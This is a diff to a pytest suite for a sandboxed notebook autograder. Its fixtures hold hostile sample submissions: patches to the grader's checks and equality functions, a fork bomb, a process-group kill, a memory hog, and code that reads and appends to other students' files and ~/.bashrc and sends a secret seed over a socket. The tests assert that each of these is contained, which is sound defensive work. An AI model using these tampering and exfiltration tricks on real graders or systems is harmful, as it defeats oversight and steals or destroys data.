@@ -1,11 +1,13 @@
 """Coursework: nbgrader metadata in the notebooks, hidden cases, the library off limits, and
 `scripts/coursework.py grade` on one chapter's submissions, end to end."""
 
+import contextlib
 import csv
 import importlib.util
+import io
+import os
 import subprocess
 import sys
-import time
 from pathlib import Path
 
 import nbformat
@@ -140,47 +142,19 @@ def test_predictions_compare_shapes_and_numbers(monkeypatch, capsys):
     assert not checks.compare_prediction("p", lambda: (577, 1), (577, 2))
 
 
-def _alive(pid: int) -> bool:
-    """True while process `pid` runs (a zombie waiting to be reaped counts as gone)."""
-    try:
-        state = Path(f"/proc/{pid}/stat").read_text().split(")")[-1].split()[0]
-    except FileNotFoundError:
-        return False
-    return state != "Z"
-
-
-def test_the_notebook_time_limit_kills_the_whole_group(tmp_path):
-    """A notebook past its limit is stopped with everything it started (its kernel too)."""
-    # a shell that starts a child (as nbgrader starts a kernel), says its pid, and waits
-    command = ["sh", "-c", "sleep 60 & echo $!; wait"]
-    log = tmp_path / "log.txt"
-    start = time.monotonic()
-    status = coursework._run_limited(command, None, 2, log)
-    assert time.monotonic() - start < 30, "the grader waited for the notebook's child"
-    assert status == "not graded: stopped at the notebook's time limit of 2 s"
-    child = int(log.read_text().split()[0])
-    for _ in range(
-        50
-    ):  # the kill is immediate; the kernel may take a moment to reap it
-        if not _alive(child):
-            break
-        time.sleep(0.1)
-    assert not _alive(child), "the child of the notebook's process outlived the limit"
-
-
-# --- grading one chapter end to end ---
+# --- grading chapter 3 end to end: cheats, harms and mistakes, in one run ---
 
 CHAPTER = ROOT / "notebooks" / "03_attention.ipynb"
-WRONG = {  # answer cell: a wrong answer
-    "ex3_3-answer": "def split_heads(x, heads):\n    b, n, width = x.shape\n"
-    "    return x.reshape(b, heads, n, width // heads)",
-    "ex3_1-answer": "def masked_attention(q, k, v, mask):\n"
-    "    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)",
-    "ex3_5-answer": "def attention_parameters(dim):\n"
-    "    return {192: 148224, 384: 591360, 768: 2362368, 1024: 4198400}[dim]",
-    "ex3_2-answer": "import time\ntime.sleep(10_000)",
-    "ex3_4-answer": "import os\nos._exit(1)",
-}
+ZEROS = "def split_heads(x, heads):\n    return torch.zeros_like(x)"  # a wrong answer
+
+
+def right_answers() -> dict:
+    book = nbformat.read(CHAPTER, as_version=4)
+    return {
+        c.metadata["nbgrader"]["grade_id"]: c.source
+        for c in book.cells
+        if c.metadata.get("nbgrader", {}).get("solution")
+    }
 
 
 def submission(answers: dict, changes: dict = None) -> nbformat.NotebookNode:
@@ -195,59 +169,137 @@ def submission(answers: dict, changes: dict = None) -> nbformat.NotebookNode:
     return notebook
 
 
+RIGHT = right_answers()
+CHEATS = {  # student: answer cells changed; every changed exercise has a wrong answer
+    # the checks' own switches, and the functions they compare with, patched in the kernel
+    "eve": {
+        "ex3_1-answer": "import os\nos.environ['VITLIB_STRICT_CHECKS'] = '0'\n"
+        "os.environ['VITLIB_CHECK_SEED'] = '0'\n"
+        "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True\n"
+        + RIGHT["ex3_1-answer"],
+        "ex3_3-answer": ZEROS,
+        # a table of the public answers, keyed by the seed the student cannot see
+        "ex3_5-answer": "import os\nTABLE = {0: {192: 148224, 384: 591360}}\n"
+        "def attention_parameters(dim):\n"
+        "    return TABLE[int(os.environ.get('VITLIB_CHECK_SEED', '0'))][dim]",
+    },
+    # the verdict, the checks and the shell's input, patched
+    "fay": {
+        "ex3_3-answer": "import vitlib.checks\nvitlib.checks.verdict = lambda *a, **k: True\n"
+        "checks.compare = lambda *a, **k: (True, '', '')\n"
+        "setattr(checks, 'check_split_heads', lambda fn: True)\n"
+        "get_ipython().input_transformers_post.append(\n"
+        "    lambda lines: [l for l in lines if 'checks.' not in l])\n" + ZEROS,
+    },
+    # the library captured before the check could switch it off
+    "dee": {
+        "ex3_1-answer": "def masked_attention(q, k, v, mask, _f=F.scaled_dot_product_attention):\n"
+        "    return _f(q, k, v, attn_mask=mask)",
+        "ex3_2-answer": "import functools\nattend = functools.partial(getattr(F, 'scaled_dot_' + 'product_attention'))\n"
+        "def fixed_attention(q, k, v):\n    return attend(q, k, v)",
+    },
+    "gus": {
+        "ex3_1-answer": "def masked_attention(q, k, v, mask):\n"
+        "    scores = (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).masked_fill(~mask, float('-inf'))\n"
+        "    return scores.log_softmax(dim=-1).exp() @ v",
+    },
+}
+MISTAKE = {  # the softmax over the queries: a misconception chapter 3 teaches
+    "ex3_2-answer": "def fixed_attention(q, k, v):\n"
+    "    weights = (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).softmax(dim=-2)\n"
+    "    return weights @ v",
+}
+HARMS = {  # one submission that tries each harm, an exercise at a time
+    "ex3_1-answer": "big = torch.ones(5 * 2**30, dtype=torch.uint8)  # 5 GiB\n"
+    + RIGHT["ex3_1-answer"],
+    "ex3_2-answer": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
+    "ex3_3-answer": "import os, time\nfor _ in range(50):\n    if os.fork() == 0:\n"
+    "        time.sleep(600)\n        os._exit(0)\nprint('x' * (200 * 2**20))\n"
+    + RIGHT["ex3_3-answer"],
+    "ex3_4-answer": "import os, signal\nos.killpg(0, signal.SIGKILL)",
+    "ex3_5-answer": "import glob, pathlib, socket, os\nSEEN = []\n"
+    "for path in [*glob.glob('{others}/*/*'), *glob.glob('{root}/_build/*/*'),\n"
+    "             '{root}/vitlib/checks.py', '{root}/notebooks/new.txt', os.path.expanduser('~/.bashrc')]:\n"
+    "    try:\n        SEEN.append(open(path).read()[:10])\n        open(path, 'a').write('#')\n"
+    "    except OSError:\n        pass\n"
+    "try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(os.environ.get('VITLIB_CHECK_SEED', 'none').encode())\n"
+    "except OSError:\n    pass\n" + RIGHT["ex3_5-answer"],
+}
+
+
+def _grade(folder, out, *extra):
+    return subprocess.run(
+        [sys.executable, str(ROOT / "scripts" / "coursework.py"), "grade", str(folder),
+         "--out", str(out), "--seed", "12345", "--cell-timeout", "10", *extra],
+        capture_output=True, text=True, cwd=ROOT,
+    )  # fmt: skip
+
+
+def _rows(out):
+    with open(out / "grades.csv") as f:
+        return {(r["student"], r["exercise"]): r for r in csv.DictReader(f)}
+
+
+def _tree_state(*folders) -> dict:
+    return {
+        p: (p.stat().st_mtime_ns, p.stat().st_size)
+        for folder in folders
+        for p in sorted(Path(folder).rglob("*"))
+        if p.is_file()
+    }
+
+
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
-    book = nbformat.read(CHAPTER, as_version=4)
-    right = {
-        c.metadata["nbgrader"]["grade_id"]: c.source
-        for c in book.cells
-        if c.metadata.get("nbgrader", {}).get("solution")
-    }
-    students = {
-        "ada": submission(right),  # every answer right
-        "ben": submission({}),  # the student edition, untouched
-        "cy": submission(right, {"ex3_3-answer": WRONG["ex3_3-answer"]}),  # one wrong
-        "dee": submission(
-            right, {"ex3_1-answer": WRONG["ex3_1-answer"]}
-        ),  # the library
-        "eve": submission(
-            right, {"ex3_5-answer": WRONG["ex3_5-answer"]}
-        ),  # public answers
-        "fay": submission(
-            right, {"ex3_2-answer": WRONG["ex3_2-answer"]}
-        ),  # a cell hangs
-        "gus": submission(
-            right, {"ex3_4-answer": WRONG["ex3_4-answer"]}
-        ),  # the kernel dies
-    }
+    import socket
+    import threading
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    heard = []
+    threading.Thread(
+        target=lambda: heard.append(listener.accept()), daemon=True
+    ).start()
+    port = listener.getsockname()[1]
     folder = tmp_path_factory.mktemp("submissions")
+    harms = {k: v.format(root=ROOT, port=port, others=folder) for k, v in HARMS.items()}
+    students = {
+        "ada": submission(RIGHT),  # every answer right
+        "ben": submission({}),  # the student edition, untouched
+        "cy": submission(RIGHT, MISTAKE),
+        "harm": submission(RIGHT, harms),
+        **{name: submission(RIGHT, changes) for name, changes in CHEATS.items()},
+    }
     for name, notebook in students.items():
         (folder / name).mkdir()
         nbformat.write(notebook, folder / name / CHAPTER.name)
-    out = tmp_path_factory.mktemp("grades")
-    result = subprocess.run(
-        [
-            sys.executable,
-            str(ROOT / "scripts" / "coursework.py"),
-            "grade",
-            str(folder),
-            "--out",
-            str(out),
-            "--seed",
-            "12345",
-            "--cell-timeout",
-            "20",
-            "--timeout",
-            "240",
-        ],
-        capture_output=True,
-        text=True,
-        cwd=ROOT,
-    )
+    # a browser's second download of the same file, and a file that is no chapter
+    (folder / "hal").mkdir()
+    nbformat.write(submission(RIGHT), folder / "hal" / "Copy of 03_attention (1).ipynb")
+    (folder / "hal" / "notes.txt").write_text("not a notebook")
+    out = tmp_path_factory.mktemp("grades") / "grades"
+    (out / "feedback").mkdir(parents=True)
+    (out / "grades.csv").write_text("the previous run's grades\n")
+    before = _tree_state(ROOT / "vitlib", ROOT / "notebooks", folder)
+    result = _grade(folder, out)
+    after = _tree_state(ROOT / "vitlib", ROOT / "notebooks", folder)
+    listener.close()
     assert result.returncode == 0, result.stdout + result.stderr
-    with open(out / "grades.csv") as f:
-        rows = list(csv.DictReader(f))
-    return out, {(r["student"], r["exercise"]): r for r in rows}, result.stdout
+    alone = tmp_path_factory.mktemp("alone")
+    (alone / "ada").mkdir()
+    nbformat.write(students["ada"], alone / "ada" / CHAPTER.name)
+    alone_out = tmp_path_factory.mktemp("grades") / "alone"
+    by_herself = _grade(alone, alone_out)
+    assert by_herself.returncode == 0, by_herself.stderr
+    return {
+        "out": out,
+        "rows": _rows(out),
+        "alone": _rows(alone_out),
+        "changed": {str(p) for p in set(before) ^ set(after)}
+        | {str(p) for p in before if p in after and before[p] != after[p]},
+        "heard": heard,
+    }
 
 
 FULL = {"3.1": 2, "3.2": 2, "3.3": 2, "3.4": 1, "3.5": 1}
@@ -257,33 +309,191 @@ def scores(rows, student):
     return {
         e: float(r["score"])
         for (s, e), r in rows.items()
-        if s == student and r["score"]
+        if s == student and r["score"] and e
     }
 
 
-def test_grading_scores_each_exercise(graded):
-    out, rows, log = graded
+@pytest.mark.sandbox
+def test_right_answers_score_full_marks_and_untouched_ones_zero(graded):
+    rows, out = graded["rows"], graded["out"]
     assert scores(rows, "ada") == FULL
     assert rows["ada", "3.6"]["status"] == "needs manual grading"
-    assert rows["ada", "3.6"]["max_score"] == "2"
     assert set(scores(rows, "ben").values()) == {0}
     assert "nothing yet" in (out / "feedback" / "ben" / "03_attention.html").read_text()
-    for student, lost in [
-        ("cy", "3.3"),
-        ("dee", "3.1"),
-        ("eve", "3.5"),
-        ("fay", "3.2"),
-    ]:
-        assert scores(rows, student) == {**FULL, lost: 0}, student
-
-
-def test_a_dead_kernel_scores_zero_with_a_note_and_the_others_are_graded(graded):
-    out, rows, log = graded
-    gus = [r for (s, _), r in rows.items() if s == "gus"]
-    assert len(gus) == 6
-    assert all(r["score"] in ("", "0") for r in gus)
-    assert all("kernel died" in r["status"] for r in gus), gus[0]["status"]
-    assert (out / "logs" / "gus" / "03_attention.txt").exists()
-    assert (out / "feedback" / "gus" / "03_attention.html").exists()
-    assert scores(rows, "ada") == FULL  # graded before and after
     assert (out / "seed.txt").read_text().strip() == "12345"
+    assert "previous run" not in (out / "grades.csv").read_text()
+
+
+@pytest.mark.sandbox
+def test_cheats_score_zero_on_what_they_cheat(graded):
+    rows = graded["rows"]
+    # environment flags, a patched allclose/equal, a table keyed by the seed: wrong stays wrong
+    assert scores(rows, "eve") == {**FULL, "3.3": 0, "3.5": 0}
+    # a patched verdict, compare, check function or input transformer: flagged, and zero
+    assert scores(rows, "fay") == {**FULL, "3.3": 0, "3.4": 0, "3.5": 0}
+    assert rows["fay", "3.3"]["status"] == "tampering"
+    # the library captured in a default argument, a partial, a getattr string, log_softmax
+    assert scores(rows, "dee") == {**FULL, "3.1": 0, "3.2": 0}
+    assert scores(rows, "gus") == {**FULL, "3.1": 0}
+    for student, exercise in [("dee", "3.1"), ("dee", "3.2"), ("gus", "3.1")]:
+        assert rows[student, exercise]["status"] == "library used"
+    page = (graded["out"] / "feedback" / "dee" / "03_attention.html").read_text()
+    assert "scaled_dot_product_attention" in page and "log_softmax" not in page
+    assert (
+        "log_softmax"
+        in (graded["out"] / "feedback" / "gus" / "03_attention.html").read_text()
+    )
+
+
+@pytest.mark.sandbox
+def test_a_known_misconception_is_named(graded):
+    rows = graded["rows"]
+    assert scores(rows, "cy") == {**FULL, "3.2": 0}
+    assert "softmax over the wrong axis" in rows["cy", "3.2"]["feedback"]
+    assert "chapter 3, One head" in rows["cy", "3.2"]["feedback"]
+    page = (graded["out"] / "feedback" / "cy" / "03_attention.html").read_text()
+    assert "mistake:" in page
+
+
+@pytest.mark.sandbox
+def test_harms_are_contained_and_cost_only_their_cells(graded):
+    rows, out = graded["rows"], graded["out"]
+    assert scores(rows, "harm") == {**FULL, "3.1": 0, "3.2": 0, "3.3": 0, "3.4": 0}
+    assert "memory limit" in rows["harm", "3.1"]["status"]
+    assert "ignored the interrupt" in rows["harm", "3.2"]["status"]
+    assert "crash" in rows["harm", "3.4"]["status"]
+    log = (out / "logs" / "harm" / "03_attention.txt").stat().st_size
+    assert log < 12 * 2**20, "the 200 MB of output were kept"
+    assert not graded["heard"], "a submission reached a listener on 127.0.0.1"
+    assert not graded["changed"], (
+        f"files outside the submission changed: {graded['changed']}"
+    )
+    workers = [
+        p for p in Path("/proc").iterdir()
+        if p.name.isdigit() and b"grading/worker.py" in _read(p / "cmdline")
+    ]  # fmt: skip
+    assert not workers, "a submission's processes outlived the run"
+
+
+def _read(path) -> bytes:
+    try:
+        return path.read_bytes()
+    except OSError:
+        return b""
+
+
+@pytest.mark.sandbox
+def test_other_students_grades_are_as_when_graded_alone(graded):
+    ada = {
+        k[1]: (r["score"], r["status"])
+        for k, r in graded["rows"].items()
+        if k[0] == "ada"
+    }
+    alone = {
+        k[1]: (r["score"], r["status"])
+        for k, r in graded["alone"].items()
+        if k[0] == "ada"
+    }
+    assert ada == alone
+
+
+@pytest.mark.sandbox
+def test_renamed_downloads_are_graded_and_other_files_reported(graded):
+    rows = graded["rows"]
+    assert scores(rows, "hal") == FULL
+    assert "not a chapter" in rows["hal", ""]["status"]
+
+
+def test_without_a_sandbox_grading_refuses_unless_unsafe(tmp_path):
+    env = dict(os.environ, PATH="/nonexistent")  # no bwrap on the PATH
+    command = [
+        sys.executable,
+        str(ROOT / "scripts" / "coursework.py"),
+        "grade",
+        str(tmp_path),
+    ]
+    refused = subprocess.run(command, capture_output=True, text=True, env=env, cwd=ROOT)
+    assert refused.returncode != 0 and "--unsafe" in refused.stderr
+    assert "bubblewrap" in refused.stderr
+
+
+# --- the library-off rule read from the source ---
+
+sys.path.insert(0, str(ROOT / "scripts" / "grading"))
+import grade as grader  # noqa: E402
+import source as source_rules  # noqa: E402
+
+
+class _Recorder:
+    """A stand-in for a student function: it records what the check forbids, then stops."""
+
+    def __init__(self):
+        self.names = set()
+
+    def __call__(self, *args):
+        raise NotImplementedError
+
+    def through(self, helper, *args):
+        raise NotImplementedError
+
+    @contextlib.contextmanager
+    def forbidding(self, names):
+        self.names |= set(names)
+        yield
+
+
+def _forbidden_lists():
+    """(chapter, exercise, forbidden names, its answer cells, the other answer cells)."""
+    found = []
+    for path in CHAPTERS:
+        cells = grader.plan(path)
+        answers = {c.grade_id: c.source for c in cells if c.kind == "answer"}
+        for cell in cells:
+            if cell.kind != "grade":
+                continue
+            name, args = grader.check_call(cell)
+            if name == "compare_prediction":
+                continue
+            recorders = [_Recorder() for _ in args]
+            with contextlib.redirect_stdout(io.StringIO()):
+                getattr(checks, name)(*recorders)
+            names = set().union(*(r.names for r in recorders))
+            own = [s for g, s in answers.items() if g.split("-")[0] == cell.exercise]
+            others = [s for s in answers.values() if s not in own]
+            found.append((path.stem, cell.exercise, names, own, others))
+    return found
+
+
+def test_the_books_own_solutions_pass_the_source_rule(monkeypatch):
+    monkeypatch.setenv("VITLIB_STRICT_CHECKS", "0")
+    lists = _forbidden_lists()
+    assert sum(bool(names) for _, _, names, _, _ in lists) >= 20
+    for chapter, exercise, names, own, others in lists:
+        found = source_rules.violations(source_rules.reached(own, others), names)
+        assert not found, (chapter, exercise, found)
+
+
+CAPTURES = [  # ways to keep a forbidden function, each caught by name
+    "def f(q, k, v, _f=F.scaled_dot_product_attention):\n    return _f(q, k, v)",
+    "import functools\nf = functools.partial(F.scaled_dot_product_attention)",
+    "from torch.nn.functional import scaled_dot_product_attention as s\nf = s",
+    "f = torch._C._nn.scaled_dot_product_attention",
+    "f = torch.ops.aten._scaled_dot_product_flash_attention_for_cpu",
+    "f = getattr(F, 'scaled_dot_' + name)",
+    "f = eval('F.sdpa')",
+    "def f(x):\n    return x.log_softmax(-1).exp()",
+]
+
+
+@pytest.mark.parametrize("answer", CAPTURES)
+def test_captured_library_functions_are_found_in_the_source(answer):
+    forbid = checks.ATTENTION_SHORTCUTS + checks.SOFTMAX
+    assert source_rules.violations([answer], forbid), answer
+
+
+def test_a_helper_in_another_answer_cell_is_read_too():
+    helper = "def my_softmax(x):\n    return x.softmax(-1)"
+    answer = "def f(q, k, v):\n    return my_softmax(q @ k.mT) @ v"
+    reached = source_rules.reached([answer], [helper, "def unrelated():\n    pass"])
+    assert len(reached) == 2
+    assert source_rules.violations(reached, checks.SOFTMAX)
